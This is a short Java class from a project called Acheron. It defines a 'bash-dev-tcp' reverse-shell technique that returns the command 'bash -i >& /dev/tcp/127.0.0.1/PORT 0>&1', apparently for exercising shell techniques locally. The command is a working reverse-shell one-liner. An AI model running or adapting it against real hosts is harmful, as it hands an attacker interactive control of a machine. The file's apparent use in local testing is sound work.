/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.local.technique;

import java.util.List;

/** The shell's own redirection: bash opens the connection, and one socket is its input, output and errors. */
public final class BashDevTcp extends ReverseShell {
    /** Made by the service loader. */
    public BashDevTcp() {
        super("bash-dev-tcp", "bash redirects its input, output and errors to /dev/tcp", List.of(List.of("bash")));
    }

    @Override
    List<String> command(Stage stage, int port) throws TechniqueFailedException {
        return List.of(stage.tool("bash"), "-c", "bash --norc -i >& /dev/tcp/127.0.0.1/%d 0>&1".formatted(port));
    }
}
